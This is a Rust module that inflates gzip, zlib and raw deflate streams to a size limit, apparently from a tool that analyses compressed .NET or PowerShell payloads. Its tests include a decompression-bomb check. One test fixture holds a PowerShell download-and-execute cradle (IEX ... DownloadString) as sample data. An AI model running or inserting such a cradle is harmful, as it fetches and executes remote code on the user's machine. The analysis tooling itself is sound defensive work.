//! Streams that .NET's `GZipStream`, `DeflateStream` and zlib write, each inflated to a limit.
//!
//! Source: RFC 1950, 1951 and 1952. Checksums are not verified: a cut stream still tells what it held.

use miniz_oxide::inflate::TINFLStatus;
use miniz_oxide::inflate::core::{DecompressorOxide, decompress, inflate_flags};

/// Units that making the state of a stream costs.
pub(crate) const STATE: usize = 15_000;

/// The output of a stream.
pub(crate) struct Inflated {
    /// The format: `gzip`, `zlib` or `deflate`.
    pub(crate) how: &'static str,
    /// The bytes, at most as many as allowed.
    pub(crate) bytes: Vec<u8>,
    /// True if the stream holds more.
    pub(crate) cut: bool,
}

/// Inflates a gzip or zlib stream, known by its first bytes, or, if `raw`, a deflate stream without a
/// header. `None` when nothing comes out.
pub(crate) fn inflate(bytes: &[u8], raw: bool, limit: usize) -> Option<Inflated> {
    let (how, body) = if let Some(body) = gzip_body(bytes) {
        ("gzip", body)
    } else if let Some(body) = zlib_body(bytes) {
        ("zlib", body)
    } else if raw {
        ("deflate", bytes)
    } else {
        return None;
    };
    let (bytes, status) = inflate_body(body, limit);
    // A header is proof enough to keep what came out of a damaged stream; without one it is not.
    let damaged = how == "deflate" && status == TINFLStatus::Failed;
    let cut = status == TINFLStatus::HasMoreOutput;
    (!bytes.is_empty() && !damaged).then_some(Inflated { how, bytes, cut })
}

/// Inflates until the stream or the limit ends; what came out before an error is kept.
fn inflate_body(mut input: &[u8], limit: usize) -> (Vec<u8>, TINFLStatus) {
    const SMALLEST: usize = 512;
    let mut out = vec![0; input.len().saturating_mul(4).max(SMALLEST).min(limit)];
    let mut state = Box::<DecompressorOxide>::default();
    let mut end = 0_usize;
    loop {
        let flags = inflate_flags::TINFL_FLAG_USING_NON_WRAPPING_OUTPUT_BUF;
        let (status, consumed, produced) = decompress(&mut state, input, &mut out, end, flags);
        end = end.saturating_add(produced);
        input = input.get(consumed..).unwrap_or_default();
        if status != TINFLStatus::HasMoreOutput || out.len() >= limit {
            out.truncate(end);
            return (out, status);
        }
        out.resize(out.len().saturating_mul(2).max(SMALLEST).min(limit), 0);
    }
}

/// Returns the deflate stream after a gzip header.
fn gzip_body(bytes: &[u8]) -> Option<&[u8]> {
    let rest = bytes.strip_prefix(&[0x1f, 0x8b, 0x08])?;
    let (&flags, rest) = rest.split_first()?;
    // Time, extra flags, operating system.
    let mut rest = rest.get(6..)?;
    if flags & 4 != 0 {
        let (length, behind) = rest.split_first_chunk::<2>()?;
        rest = behind.get(usize::from(u16::from_le_bytes(*length))..)?;
    }
    for flag in [8, 16] {
        if flags & flag != 0 {
            let end = rest.iter().position(|&b| b == 0)?;
            rest = rest.get(end.saturating_add(1)..)?;
        }
    }
    if flags & 2 != 0 { rest.get(2..) } else { Some(rest) }
}

/// Returns the deflate stream after a zlib header, which is a multiple of 31.
fn zlib_body(bytes: &[u8]) -> Option<&[u8]> {
    let (&[method, flags], rest) = bytes.split_first_chunk::<2>()?;
    let header = u16::from_be_bytes([method, flags]);
    (method == 0x78 && header.is_multiple_of(31) && flags & 0x20 == 0).then_some(rest)
}

#[cfg(test)]
pub(crate) fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut out = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 4, 0];
    out.extend(miniz_oxide::deflate::compress_to_vec(bytes, 9));
    out.extend([0; 8]);
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use miniz_oxide::deflate::{compress_to_vec, compress_to_vec_zlib};

    #[test]
    fn the_three_formats() {
        let text = b"IEX (New-Object Net.WebClient).DownloadString('http://x')";
        for (how, stream) in [
            ("gzip", gzip(text)),
            ("zlib", compress_to_vec_zlib(text, 6)),
            ("deflate", compress_to_vec(text, 6)),
        ] {
            let out = inflate(&stream, true, 1000).unwrap();
            assert_eq!((out.how, out.bytes.as_slice(), out.cut), (how, &text[..], false));
            assert_eq!(inflate(&stream, false, 1000).is_some(), how != "deflate");
            // A cut stream gives what it can.
            let out = inflate(&stream[..stream.len() - 20], true, 1000).unwrap();
            assert!(!out.bytes.is_empty() && text.starts_with(&out.bytes));
        }
    }

    #[test]
    fn a_header_with_every_option() {
        let mut stream = vec![0x1f, 0x8b, 8, 0x1e, 0, 0, 0, 0, 0, 0, 3, 0, 1, 2, 3];
        stream.extend(b"name\0comment\0\x12\x34");
        stream.extend(compress_to_vec(b"hello there", 6));
        assert_eq!(inflate(&stream, false, 100).unwrap().bytes, b"hello there");
    }

    #[test]
    fn a_bomb_stops_at_the_limit() {
        let out = inflate(&gzip(&vec![b'a'; 50_000_000]), false, 4096).unwrap();
        assert_eq!((out.bytes.len(), out.cut), (4096, true));
    }

    #[test]
    fn noise_is_no_stream() {
        for noise in [&b""[..], b"\x1f\x8b\x08", b"x\x9c", b"\xff\xff\xff\xff", b"plain text"] {
            assert!(inflate(noise, true, 100).is_none(), "{noise:?}");
        }
    }
}
